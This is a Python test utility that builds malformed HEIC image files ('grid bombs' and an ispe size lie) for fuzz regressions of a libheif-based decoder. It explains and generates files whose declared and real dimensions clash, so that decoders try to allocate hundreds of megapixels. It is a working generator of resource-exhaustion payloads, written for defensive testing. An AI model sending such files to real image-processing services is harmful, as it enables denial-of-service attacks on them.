#!/usr/bin/env python3
"""Builds HEIF grid bombs for issue 21 #3 (attack files, for tests and fuzz regressions).

Takes one HEVC tile (hvcC + bitstream) from a small HEIC that heif-enc makes, and writes:
  grid_output_bomb.heic  ispe says 512x512; the grid descriptor says 16384x16384 from 1x1 tiles
                         (libheif composes the grid's own size: 268 Mpx)
  grid_tiles_bomb.heic   ispe 512x512, a 200x200 grid (12800x12800): 40,000 references to one tile
  ispe_lie.heic          one 8000x8000 HEVC picture (a flat colour, 15 kB) whose ispe says 512x512:
                         libheif 1.15 decodes the bitstream's size (fuzz/regressions/image/
                         heic-ispe-512-codes-8000x8000.heic; stopped at the decoder worker's memory cap)
Usage: make_heif_grid_bombs.py OUTDIR   (needs heif-enc from libheif-examples)
"""
import os, struct, subprocess, sys, tempfile, zlib

def box(kind, body): return struct.pack(">I", 8 + len(body)) + kind + body
def full(kind, version, flags, body): return box(kind, struct.pack(">I", version << 24 | flags) + body)

def children(data):
    at = 0
    while at + 8 <= len(data):
        size, kind = struct.unpack(">I4s", data[at:at + 8])
        yield kind, data[at + 8:at + size], at
        at += size

def tile_from_heic(path):
    """hvcC box bytes and the picture's bitstream from heif-enc's output (one item, iloc v0/v1)."""
    data = open(path, "rb").read()
    top = {k: (b, a) for k, b, a in children(data)}
    meta = top[b"meta"][0][4:]
    parts = {k: b for k, b, _ in children(meta)}
    ipco = {k: b for k, b, _ in children({k: b for k, b, _ in children(parts[b"iprp"])}[b"ipco"])}
    hvcc = box(b"hvcC", ipco[b"hvcC"])
    iloc = parts[b"iloc"]
    version = iloc[0]
    sizes = iloc[4]; off_size, len_size, base_size = sizes >> 4, sizes & 15, iloc[5] >> 4
    at = 8
    at += 2  # item id
    if version >= 1: at += 2
    at += 2
    base = int.from_bytes(iloc[at:at + base_size], "big"); at += base_size
    at += 2  # extent count (1)
    off = int.from_bytes(iloc[at:at + off_size], "big"); at += off_size
    length = int.from_bytes(iloc[at:at + len_size], "big")
    return hvcc, data[base + off:base + off + length]

def grid_file(hvcc, tile, rows, cols, out_w, out_h, ispe_w=512, ispe_h=512, tile_w=64, tile_h=64):
    n = rows * cols
    ftyp = box(b"ftyp", b"heic" + struct.pack(">I", 0) + b"mif1heic")
    hdlr = full(b"hdlr", 0, 0, b"\0" * 4 + b"pict" + b"\0" * 12 + b"\0")
    pitm = full(b"pitm", 0, 0, struct.pack(">H", 1))
    infe_grid = full(b"infe", 2, 0, struct.pack(">HH", 1, 0) + b"grid" + b"\0")
    infe_tile = full(b"infe", 2, 1, struct.pack(">HH", 2, 0) + b"hvc1" + b"\0")  # hidden
    iinf = full(b"iinf", 0, 0, struct.pack(">H", 2) + infe_grid + infe_tile)
    iref = full(b"iref", 0, 0, box(b"dimg", struct.pack(">HH", 1, n) + struct.pack(">H", 2) * n))
    wide = out_w > 65535 or out_h > 65535
    desc = struct.pack(">BBBB", 0, 1 if wide else 0, rows - 1, cols - 1) + (
        struct.pack(">II", out_w, out_h) if wide else struct.pack(">HH", out_w, out_h))
    idat = box(b"idat", desc)
    ispe_g = full(b"ispe", 0, 0, struct.pack(">II", ispe_w, ispe_h))
    ispe_t = full(b"ispe", 0, 0, struct.pack(">II", tile_w, tile_h))
    ipco = box(b"ipco", hvcc + ispe_g + ispe_t)
    ipma = full(b"ipma", 0, 0, struct.pack(">I", 2) +
                struct.pack(">HB", 1, 1) + bytes([2]) +          # grid: ispe_g
                struct.pack(">HB", 2, 2) + bytes([0x81, 3]))     # tile: hvcC (essential), ispe_t
    iprp = box(b"iprp", ipco + ipma)

    def build(mdat_offset):
        iloc = full(b"iloc", 1, 0, struct.pack(">BBH", 0x44, 0x00, 2) +
                    struct.pack(">HHHH", 1, 1, 0, 1) + struct.pack(">II", 0, len(desc)) +        # grid in idat
                    struct.pack(">HHHH", 2, 0, 0, 1) + struct.pack(">II", mdat_offset, len(tile)))
        meta = full(b"meta", 0, 0, hdlr + pitm + iloc + iinf + iref + iprp + idat)
        return ftyp + meta
    head = build(0)
    head = build(len(head) + 8)
    return head + box(b"mdat", tile)

def main():
    outdir = sys.argv[1]
    os.makedirs(outdir, exist_ok=True)
    with tempfile.TemporaryDirectory() as tmp:
        # A 64x64 grey PNG for heif-enc (no imaging library needed).
        rows = b"".join(b"\0" + bytes((96, 128, 160)) * 64 for _ in range(64))
        def chunk(k, b): return struct.pack(">I", len(b)) + k + b + struct.pack(">I", zlib.crc32(k + b) & 0xFFFFFFFF)
        png = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 64, 64, 8, 2, 0, 0, 0)) +
               chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))
        open(f"{tmp}/t.png", "wb").write(png)
        subprocess.run(["heif-enc", "-q", "30", "-o", f"{tmp}/t.heic", f"{tmp}/t.png"],
                       check=True, stdout=subprocess.DEVNULL)
        hvcc, tile = tile_from_heic(f"{tmp}/t.heic")
        side = 8000
        big = zlib.compress((b"\0" + bytes((90, 140, 200)) * side) * side, 9)
        open(f"{tmp}/big.png", "wb").write(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)) +
                                          chunk(b"IDAT", big) + chunk(b"IEND", b""))
        subprocess.run(["heif-enc", "-q", "5", "-o", f"{tmp}/big.heic", f"{tmp}/big.png"], check=True, stdout=subprocess.DEVNULL)
        lie = bytearray(open(f"{tmp}/big.heic", "rb").read())
        at = lie.find(b"ispe")
        lie[at + 8:at + 16] = struct.pack(">II", 512, 512)
    files = {
        "grid_output_bomb.heic": grid_file(hvcc, tile, 1, 1, 16384, 16384),
        "grid_tiles_bomb.heic": grid_file(hvcc, tile, 200, 200, 12800, 12800),
        "grid_honest.heic": grid_file(hvcc, tile, 2, 2, 128, 128, 128, 128),
        "ispe_lie.heic": bytes(lie),
    }
    for name, data in files.items():
        open(os.path.join(outdir, name), "wb").write(data)
        print(f"{name}: {len(data)} bytes")

if __name__ == "__main__":
    main()
